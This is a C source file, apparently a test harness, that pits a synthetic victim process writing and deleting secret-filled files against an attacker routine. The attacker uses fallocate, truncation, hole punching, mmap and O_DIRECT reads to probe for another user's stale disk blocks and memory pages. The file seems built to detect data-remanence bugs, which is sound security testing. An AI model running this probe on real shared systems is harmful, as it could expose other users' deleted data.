// SPDX-License-Identifier: Apache-2.0
// The attack of neighbours.c that tries to read old data of another user, and the victim's files for it.
#include "neighbours.h"
#include <linux/falloc.h>
#include <sys/statvfs.h>

static void look_at_pages(const volatile char *p, size_t bytes)
{
	for (size_t at = 0; at < bytes; at += 64)
		look(p + at);
}

// The victim makes and deletes files.
void secrets(void)
{
	char name[320];

	snprintf(name, sizeof(name), "%s.secret", victim_file);
	for (;; shared->secrets++) {
		volatile char *p;
		int fd;

		make_file(name, VICTIM, SECRET_PAGES, SECRET);
		fd = open(name, O_RDONLY);
		posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
		p = map_file(name, SECRET_PAGES * PAGE, MAP_SHARED);
		for (size_t i = 0; i < SECRET_PAGES; i++)
			(void)p[i * PAGE];
		munmap((void *)p, SECRET_PAGES * PAGE);
		close(fd);
		if (truncate(name, 0))
			die(name);
		sync();
	}
}

// Look for bytes in blocks and frames that other users had before. The file takes
// three quarters of the free blocks, so it gets some of the victim's old ones, too.
void bytes(void)
{
	size_t size = 3 * SECRET_PAGES * PAGE;
	int fd = open(attacker_file, O_RDWR), filler;
	char *buffer = aligned_alloc(PAGE, 16 * PAGE), name[320];
	struct statvfs free;
	volatile char *p;

	snprintf(name, sizeof(name), "%s/filler", attacker_folder);
	filler = open(name, O_RDWR | O_CREAT, 0600);
	if (ftruncate(fd, 0))
		die("ftruncate");
	sync();
	if (fstatvfs(fd, &free) || fallocate(filler, 0, 0, free.f_bavail * free.f_frsize - 4 * SECRET_PAGES * PAGE))
		die("filler");
	done();
	for (size_t n = 0;; n++, done()) {
		if (ftruncate(fd, 0))
			die("ftruncate");
		sync();
		// unwritten blocks; or a hole and a file that grows, with an end inside of a page
		while (n % 2 == 0 && fallocate(fd, 0, 0, size))
			sync();
		if (n % 2 && (pwrite(fd, "x", 1, size / 2 - 1) != 1 || ftruncate(fd, size - 100)))
			die("ftruncate");
		fsync(fd);
		p = map_file(attacker_file, size, MAP_SHARED);
		look_at_pages(p, size);
		madvise((void *)p, size, MADV_DONTNEED);
		posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
		fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, size / 4, size / 4);
		look_at_pages(p, size);
		munmap((void *)p, size);
		int past = open(attacker_file, O_RDONLY | O_DIRECT);

		for (size_t at = 0; at < size; at += 16 * PAGE)
			if (pread(past, buffer, 16 * PAGE, at) > 0)
				look_at_pages(buffer, 16 * PAGE);
		close(past);
		p = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		for (size_t at = 0; at < size; at += PAGE) {
			p[at + 8] = 1;
			look_at_pages(p + at, PAGE);
		}
		munmap((void *)p, size);
	}
}
